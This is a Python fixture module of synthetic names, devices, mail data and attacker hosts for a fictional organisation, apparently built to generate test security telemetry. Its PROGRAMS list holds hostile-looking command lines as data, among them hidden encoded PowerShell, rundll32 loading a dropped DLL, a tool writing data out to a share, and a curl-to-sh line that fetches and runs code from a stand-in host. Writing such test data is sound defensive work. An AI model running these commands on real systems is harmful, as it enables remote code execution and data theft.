"""The names of devices, users and files of the synthetic organisation, and of the tools that attack it."""

from typing import NamedTuple


class System(NamedTuple):
    """An operating system as a device row names it."""

    platform: str
    release: str
    processor: str
    build: int | None


class SyntheticGroup(NamedTuple):
    """A device group with the start of its devices' names. Number 0 without a name means ungrouped."""

    name: str | None
    number: int
    host_prefix: str
    systems: tuple[System, ...]


WORKSTATION_SYSTEMS = (
    System("Windows11", "24H2", "x64", 26100),
    System("Windows11", "23H2", "ARM64", 22631),
    System("Windows10", "22H2", "x64", 19045),
    System("macOS", "Other", "ARM64", None),
)
SERVER_SYSTEMS = (
    System("WindowsServer2016", "1607", "x64", 14393),
    System("WindowsServer2019", "1809", "x64", 17763),
    System("WindowsServer2022", "21H2", "x64", 20348),
    System("Linux", "Other", "x64", None),
)
PLANT_SYSTEMS = (System("Windows10", "1909", "x86", 18363), System("Other", "Other", "x64", None))

DEVICE_GROUPS = (
    SyntheticGroup("Workstations EU", 14, "lap-eu", WORKSTATION_SYSTEMS),
    SyntheticGroup("Workstations Americas", 15, "lap-am", WORKSTATION_SYSTEMS),
    SyntheticGroup("Workstations Asia", 16, "lap-as", WORKSTATION_SYSTEMS),
    SyntheticGroup("Servers EU", 21, "srv-eu", SERVER_SYSTEMS),
    SyntheticGroup("Servers Americas", 22, "srv-am", SERVER_SYSTEMS),
    SyntheticGroup("Domain controllers", 27, "dc", SERVER_SYSTEMS),
    SyntheticGroup("Plant floor", 31, "plant", PLANT_SYSTEMS),
    SyntheticGroup("Directors' laptops", 40, "lap-dir", WORKSTATION_SYSTEMS),
    SyntheticGroup(None, 0, "new", WORKSTATION_SYSTEMS),
)
DEVICES_PER_GROUP = 80

HEALTH_STATUSES = (
    *("Active",) * 12,
    *("Inactive", "ImpairedCommunication", "NoSensorData", "NoSensorDataImpairedCommunication", "Unknown"),
)
RISK_SCORES = ("None", "None", "None", "Informational", "Low", "Medium", "High")
ANTIVIRUS_STATUSES = (
    *("Updated",) * 12,
    *("NotUpdated", "NotReporting", "Disabled", "NotSupported", "Unknown"),
)
ONBOARDING_STATUSES = (*("Onboarded",) * 20, "CanBeOnboarded", "InsufficientInfo", "Unsupported")
DEVICE_TAG_SETS = ((), (), (), (), ("vip",), ("pilot ring",), ("building 4", "shared"))

GIVEN_NAMES = (
    *("ines", "joao", "mirela", "tomasz", "adaeze", "yuki", "lars", "zoe", "farid", "oksana"),
    *("rui", "birgit", "kofi", "leila", "mateus", "noor", "pavel", "sunniva", "teo", "wanjiru"),
)
FAMILY_NAMES = (
    *("amberlake", "brightwell", "caskmore", "dunmarsh", "eastquay", "fernholt", "gravelstone", "hollowreed"),
    *("ironbeck", "juniperley", "kettlemoor", "lanternby", "millrace", "nettlecombe", "oldharrow"),
)
MAIL_DOMAIN = "northharbour.example"
LOGON_DOMAIN = "NORTHHARBOUR"
DEVICE_DOMAIN = "corp.northharbour.example"
SID_OF_DOMAIN = "S-1-5-21-1204471903-3310785214-2096647713"

ATTACKER_HOSTS = (
    "parcel-desk.example",
    "invoices.parcel-desk.example",
    "quarry-login.example",
    "files.quarry-login.example",
    "tidewrack.invalid",
    "cdn-7.gullsnare.invalid",
    "update-mirror.test",
    "xn--hfen-loa.example",
)
URL_PATHS = (
    "",
    "/",
    "/track?id=8841",
    "/logon",
    "/a/b/c.js",
    "/dl/setup.msi",
    "/r?u=https%3A%2F%2Fquay.example",
)
URL_SCHEMES = ("https://", "http://", "")
DOCUMENTATION_NETWORKS = ("192.0.2", "198.51.100", "203.0.113")
PRIVATE_NETWORKS = ("10.4.17", "172.20.3", "192.168.40")

FILE_NAMES = (
    "grab.exe",
    "setup.msi",
    "invoice_8841.pdf.exe",
    "update.dll",
    "notes.docm",
    "a.js",
    "räumungsplan.xlsm",
)
FOLDERS = (
    "C:\\Users\\Public\\Downloads",
    "C:\\ProgramData\\helper",
    "D:\\shares\\plans",
    "C:\\Windows\\Temp",
)
LINUX_FILE_NAMES = ("agent", "loader.bin", "a.sh")
LINUX_FOLDERS = ("/opt/agent/bin", "/home/svc-build/.cache", "/srv/drop")


class Program(NamedTuple):
    """The image of a process, and how it is called."""

    folder: str
    file_name: str
    command_line: str


PROGRAMS = (
    Program(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        "powershell.exe",
        '"powershell.exe" -NoProfile -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwAgAGgAYQByAGIAbwB1AHIA',
    ),
    Program("C:\\Windows\\System32", "cmd.exe", "cmd.exe /c whoami /groups > C:\\Windows\\Temp\\g.txt"),
    Program(
        "C:\\Windows\\System32", "rundll32.exe", 'rundll32.exe "C:\\ProgramData\\helper\\update.dll",Start 7'
    ),
    Program("C:\\Windows\\System32", "wscript.exe", "wscript.exe //B C:\\Users\\Public\\Downloads\\a.js"),
    Program(
        "C:\\ProgramData\\helper",
        "svc-helper.exe",
        "svc-helper.exe --install --quiet --log C:\\Windows\\Temp\\h.log",
    ),
    Program("C:\\Windows\\Temp", "grab.exe", "grab.exe -all -out \\\\srv-eu-0021\\drop$\\r.bin"),
    Program("C:\\Windows", "explorer.exe", "explorer.exe"),
    Program("/usr/bin", "dash", "/bin/sh -c 'curl -s http://update-mirror.test/a | sh'"),
)

REGISTRY_KEYS = (
    ("HKEY_LOCAL_MACHINE", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"),
    ("HKEY_CURRENT_USER", "Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce"),
    ("HKEY_LOCAL_MACHINE", "SYSTEM\\CurrentControlSet\\Services\\svc-helper"),
    ("HKEY_USERS", ".DEFAULT\\Software\\Harbour Tools\\Start"),
)
REGISTRY_VALUES = (
    ("String", "svc-helper.exe"),
    ("ExpandString", "%TEMP%\\a.js"),
    ("Dword", "\x02\x00\x00\x00"),
)
SECURITY_GROUPS = (
    "Payment approvers",
    "Server operators",
    "Plant engineers",
    "Password resetters",
    "Mail archive",
)

SENDERS = ("billing", "no-reply", "Kundendienst", "it-desk", "parcels+8841")
SUBJECTS = (
    "Your parcel is waiting",
    "Invoice 8841 overdue",
    "[EXTERNAL] Password expires today",
    "Re: plans for quay 3",
    "Votre réunion de 14 h",
    "📦 1 new delivery",
)
DELIVERY_ACTIONS = ("Delivered", "Delivered", "Blocked")
MAIL_CLUSTERS = (
    ("Subject;P2SenderDomain;ContentType", "Your parcel is waiting;parcel-desk.example;1"),
    ("Subject;SenderIp;ContentType", "Invoice 8841 overdue;198.51.100.23;1"),
    ("BodyFingerprintBin1;P2SenderDomain;ContentType", "2847193305;quarry-login.example;2"),
    ("BodyFingerprintBin1;SenderIp;ContentType", "917264410;203.0.113.77;1"),
    ("UrlDomain;P2SenderDomain", "files.quarry-login.example;quarry-login.example"),
)
